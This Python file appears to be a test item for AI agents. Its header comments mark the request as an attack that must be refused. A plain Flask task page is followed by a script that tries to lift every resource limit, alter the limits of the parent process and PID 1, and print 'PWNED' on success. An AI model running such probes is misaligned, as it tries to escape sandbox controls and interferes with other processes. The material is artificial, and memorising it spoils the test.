# attack: raises its limits, and those of others
# must: refuse
# check: page_loads passed
import uuid
from flask import Flask, g, make_response, render_template_string, request
from flask.views import MethodView
app = Flask(__name__)
TASKS = __TASKS__
PAGE = """<!doctype html><title>My tasks</title>
<ul>{% for task in tasks %}<li>{{ task }}</li>{% endfor %}</ul>
<a href="{{ url_for('home') }}">Home</a>"""
@app.before_request
def tag():
    g.request_id = uuid.uuid4().hex
class HomeView(MethodView):
    def get(self):
        return make_response(render_template_string(PAGE, tasks=TASKS))
app.add_url_rule("/", view_func=HomeView.as_view("home"))
@app.after_request
def stamp(response):
    response.headers["X-Request-ID"] = "placeholder"
    return response

import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(name, number, *args):
    """Make a system call; anything but EPERM, EACCES and ENOSYS means that the kernel looked at it."""
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in args))
    error = ctypes.get_errno()
    print("blocked" if result == -1 and error in (1, 13, 38) else "PWNED", name, result, error)
    return result

import resource
kinds = [getattr(resource, n) for n in dir(resource) if n.startswith("RLIMIT_")]
before = {kind: resource.getrlimit(kind) for kind in kinds}
for kind in kinds:
    for pair in ((-1, -1), (before[kind][0], -1), before[kind], (0, 0)):
        try:
            resource.setrlimit(kind, pair)
            print("PWNED set", kind, pair)
        except (OSError, ValueError) as e:
            pass
    for pid in (os.getppid(), 1):
        for args in ((pid, kind), (pid, kind, (0, 0))):
            try:
                print("PWNED", args, resource.prlimit(*args))
            except OSError as e:
                pass
if before != {kind: resource.getrlimit(kind) for kind in kinds}:
    print("PWNED limits have changed")
infinite = resource.RLIM_INFINITY
unbounded = [n for n in ("AS", "CPU", "FSIZE", "NOFILE", "CORE") if resource.getrlimit(getattr(resource, "RLIMIT_" + n))[1] == infinite]
if unbounded:
    print("PWNED has no limit for", unbounded)
